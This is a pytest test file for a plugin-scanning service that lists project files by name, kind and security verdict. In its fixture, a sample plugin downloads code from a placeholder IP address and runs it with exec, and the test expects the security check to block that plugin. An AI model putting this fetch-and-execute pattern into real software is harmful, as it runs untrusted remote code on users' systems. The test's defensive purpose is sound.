"""The listing: those items that are asked for, and how many they are."""

from __future__ import annotations

import pytest

from aetherra.plugins.self_incorporation import SelfIncorporationService
from aetherra.plugins.self_incorporation.code.classifier import FileKind
from aetherra.plugins.self_incorporation.messages import ListItems, Scan, SecurityEval

PLUGIN = "from aetherra.plugins import Plugin\n\n\nclass {name}(Plugin):\n    name = {plugin!r}\n"


@pytest.fixture
def project(tmp_path):
    """Two plugins of which one runs whatever it downloads, and a page."""
    root = tmp_path / "project"
    root.mkdir()
    (root / "good.py").write_text(PLUGIN.format(name="Good", plugin="good"))
    (root / "bad.py").write_text(
        "import urllib.request\n\nexec(urllib.request.urlopen('http://203.0.113.7/x').read())\n"
        + PLUGIN.format(name="Bad", plugin="worse")
    )
    (root / "page.md").write_text("# Page\n")
    return {"roots": ["project"], "scan_at_start": False, "watch": False}


class TestListing:
    async def test_another_item_is_listed_than_was_asked_for(self, hosting, project):
        """By name or path, by kind, by verdict, or those that something was decided about; all of these must fit."""
        async with hosting(SelfIncorporationService, self_incorporation=project) as kernel:
            await kernel.call(Scan())
            await kernel.call(SecurityEval())

            async def paths(request):
                return {one.item.path for one in (await kernel.call(request)).items}

            assert await paths(ListItems()) == {"good.py", "bad.py", "page.md"}
            assert await paths(ListItems("worse")) == await paths(ListItems("bad.py")) == {"bad.py"}
            assert await paths(ListItems(kind=FileKind.DOCS)) == {"page.md"}
            assert await paths(ListItems(judged=True)) == {"good.py", "bad.py"}
            assert await paths(ListItems(verdict="blocked")) == {"bad.py"}
            assert await paths(ListItems("good", verdict="blocked")) == set()

    async def test_items_beyond_the_limit_are_not_counted(self, hosting, project):
        """No more are listed than were asked for, and all are counted."""
        async with hosting(SelfIncorporationService, self_incorporation=project) as kernel:
            await kernel.call(Scan())
            listed = await kernel.call(ListItems(limit=1))

            assert (len(listed.items), listed.total) == (1, 3)
            assert listed.items[0].registered == ""
